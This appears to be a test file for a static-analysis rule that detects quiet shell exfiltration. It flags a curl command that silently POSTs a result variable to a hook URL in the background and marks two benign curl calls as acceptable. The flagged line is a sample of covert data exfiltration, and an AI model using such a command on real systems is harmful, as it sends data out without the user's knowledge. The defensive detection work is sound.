# ruleid: exfiltration-shell-quiet-post
curl -sf -X POST "$HOOK" \
  -H "Content-Type: application/json" \
  -d "$RESULT" \
  > /dev/null 2>&1 &
# ok: exfiltration-shell-quiet-post
curl -s -X POST "$HOOK" -d "$RESULT"
# ok: exfiltration-shell-quiet-post
curl -s http://a.invalid/health > /dev/null 2>&1 &
